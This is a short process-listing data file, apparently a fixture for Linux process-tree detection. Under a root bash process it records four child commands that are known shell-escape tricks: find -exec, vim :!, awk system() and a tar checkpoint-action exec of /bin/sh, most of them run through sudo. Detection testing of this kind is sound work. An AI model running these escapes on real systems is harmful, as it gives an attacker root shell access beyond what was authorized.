os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root - /usr/bin/sudo | sudo find / -exec /bin/sh ;
+ 103 101 root - /usr/bin/sudo | sudo vim -c :!/bin/sh
+ 104 101 root - /usr/bin/sudo | sudo awk BEGIN {system("/bin/sh")}
+ 105 101 root - /usr/bin/tar | tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh
